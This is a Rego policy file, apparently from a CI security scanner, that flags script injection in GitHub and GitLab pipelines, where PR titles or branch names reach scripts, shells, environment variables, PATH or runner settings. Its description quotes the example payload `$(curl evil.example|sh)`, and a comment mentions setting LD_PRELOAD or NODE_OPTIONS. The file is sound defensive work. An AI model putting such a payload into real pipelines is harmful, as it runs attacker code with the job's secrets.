# METADATA
# title: Text that anybody can write becomes part of a script
# description: >-
#   The forge puts the value into the script before the shell reads it, so the title of a pull request or the name of a
#   branch such as `$(curl evil.example|sh)` is executed with the token and the secrets of the job.
# related_resources:
#   - https://docs.github.com/en/actions/concepts/security/script-injections
# custom:
#   id: CI002
#   severity: critical
#   confidence: high
#   input: pipeline
#   vendors: [github, gitlab]
#   controls:
#     - nist-800-53:SI-10
#     - nist-800-53:SA-11
#     - ssdf:PW.5.1
#     - csf-2:PR.PS-06
#     - soc2:CC6.8
#     - iso-27001:A.8.28
#     - pci-dss:6.2.4
#     - cis-github:1.5.2
#   remediation: >-
#     Hand the value to the step as an environment variable and use it in quotes ("$TITLE"); never put it into the text
#     of a script or into `eval`.
#   answers: >-
#     Let the local action or workflow take the value from the event itself, as an environment variable that its
#     script reads in quotes, instead of handing it over as an input.
package gate.policies.pipeline.script_injection

import data.gate

# What comes from a caller or from the form of a manual run is nobody's free text. An expression that cannot be read is
# reported with the file.
deny contains finding if {
	some flow in input.facts.flows
	flow.sink in {"script", "shell", "text", "environment", "path", "runner"}
	message := said(flow)
	finding := gate.followed(flow, message, sprintf("%s/%s", [flow.about, flow.expression]))
}

# What an action or workflow of this repository does with its inputs stands in its own file, where they are a caller's.
unknown contains finding if {
	some flow in input.facts.flows
	flow.sink == null
	message := asked(flow)
	finding := gate.followed(flow, message, sprintf("%s/%s", [flow.about, flow.expression]))
}

said(flow) := sprintf("%s, which anybody can write, becomes part of a script", [flow.source]) if flow.sink == "script"

# A variable keeps such a text apart from the script, until a shell is told to read it as a script once more.
said(flow) := sprintf("%s runs the text of $%s, which anybody can write", [flow.taker, flow.expression]) if flow.sink == "shell"

# So does a file, and what a program prints.
said(flow) := sprintf("%s runs a text with %s, which anybody can write", [flow.taker, flow.source]) if flow.sink == "text"

# Whoever chooses a name there, or writes a line end into a value, sets LD_PRELOAD or NODE_OPTIONS for all that follows.
said(flow) := sprintf("%s, which anybody can write, can set any variable of the steps that follow", [flow.source]) if flow.sink == "environment"

said(flow) := sprintf("%s, which anybody can write, decides where the steps that follow find programs", [flow.source]) if flow.sink == "path"

# A shell, an image or the options of a container decide what runs, for every step below.
said(flow) := sprintf("%s, which anybody can write, decides how the job is run", [flow.source]) if flow.sink == "runner"

asked(flow) := sprintf("hands %s, which anybody can write, to %s, which may run it", [flow.source, flow.taker]) if flow.maker == ""

asked(flow) := sprintf("what becomes code here may hold %s, which anybody can write: nobody knows what %s makes of it", [flow.source, flow.maker]) if flow.maker != ""
